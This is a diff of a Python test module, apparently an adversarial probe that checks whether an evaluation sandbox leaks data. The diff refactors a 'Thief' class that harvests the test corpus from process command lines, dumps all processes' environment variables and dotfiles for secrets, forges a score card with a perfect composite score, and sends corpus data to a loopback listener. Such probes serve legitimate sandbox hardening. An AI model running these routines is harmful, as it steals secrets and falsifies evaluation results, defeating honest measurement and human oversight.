@@ -5,6 +5,7 @@ else with a marker; ``metadata.attempts`` says what each attack got. Method args
 attacker may have guessed: ``corpus`` (path), ``card`` (path), ``port`` (a host loopback port).
 """
 
+import contextlib
 import gc
 import json
 import os
@@ -28,10 +29,8 @@ def _steal_from_memory():
 
 def _corpus_paths():
     words = list(sys.argv)
-    try:
+    with contextlib.suppress(OSError):
         words += Path(f"/proc/{os.getppid()}/cmdline").read_bytes().decode().split("\0")
-    except OSError:
-        pass
     return [w.split("=", 1)[1] for w in words if w.startswith("--mteval-corpus=")]
 
 
@@ -52,10 +51,10 @@ def _secrets_seen():
     seen = dict(os.environ)
     for pid in os.listdir("/proc"):
         if pid.isdigit():
-            try:
-                seen[f"proc{pid}"] = Path(f"/proc/{pid}/environ").read_bytes().decode("utf-8", "replace")
-            except OSError:
-                pass
+            with contextlib.suppress(OSError):
+                seen[f"proc{pid}"] = (
+                    Path(f"/proc/{pid}/environ").read_bytes().decode("utf-8", "replace")
+                )
     folders = [Path("/tmp").rglob("*"), Path("/run").rglob("*"), Path.home().glob(".*")]
     for found in folders:
         for path in list(found)[:200]:
@@ -80,15 +79,21 @@ class Thief:
         for path in paths:
             _try(attempts, "argv_read", lambda p=path: stolen.update(_read_corpus(p)) or "read")
         if args.get("corpus"):
-            _try(attempts, "corpus_file", lambda: stolen.update(_read_corpus(args["corpus"])) or "read")
+            _try(
+                attempts,
+                "corpus_file",
+                lambda: stolen.update(_read_corpus(args["corpus"])) or "read",
+            )
         if args.get("card"):
             forged = {"forged": True, "scores": {"composite": 1.0}}
             _try(attempts, "card_write", lambda: Path(args["card"]).write_text(json.dumps(forged)))
         if args.get("port"):
+
             def connect():
                 with socket.create_connection(("127.0.0.1", int(args["port"])), timeout=3) as s:
                     s.sendall(json.dumps([e["source"] for e in entries]).encode())
                 return "connected"
+
             _try(attempts, "connect", connect)
         _try(attempts, "dns", lambda: socket.getaddrinfo("example.com", 443)[0][4])
         secrets = _secrets_seen() if args.get("dump") else {}
